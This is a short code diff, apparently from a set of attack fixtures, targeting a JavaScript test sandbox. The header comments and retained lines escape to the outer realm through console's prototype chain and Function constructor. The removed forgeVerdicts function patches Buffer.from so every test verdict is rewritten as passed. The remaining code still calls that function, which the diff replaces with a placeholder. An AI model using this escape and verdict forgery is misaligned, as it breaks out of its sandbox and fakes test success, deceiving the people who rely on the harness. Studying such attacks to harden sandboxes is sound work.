@@ -1,18 +1,7 @@
 // Attack: the console object's prototype chain: Object.getPrototypeOf(console) is node's
 // Console.prototype (outer realm); its constructor's constructor is the outer Function.
 // Success: every test passes (Buffer.from of the outer realm rewrites the verdict lines).
-/** Payload for the child's outer realm: every verdict line the channel writes says "passed" (and stays so in a warm child). */
-function forgeVerdicts(G: any): void {
-  const from = G.Buffer.from;
-  G.Buffer.from = function (value: unknown, ...rest: unknown[]) {
-    if (typeof value === "string" && value.includes("\"e\":\"done\"")) {
-      const event = G.JSON.parse(value);
-      Object.assign(event, { errors: [], failures: [], timedOut: false, checks: 1 });
-      value = `${G.JSON.stringify(event)}\n`;
-    }
-    return from.call(this, value, ...rest);
-  };
-}
+// @payload
 const ConsoleProto = Object.getPrototypeOf(console);
 const G = ConsoleProto.constructor.constructor('return globalThis')();
 if (G !== globalThis) forgeVerdicts(G);
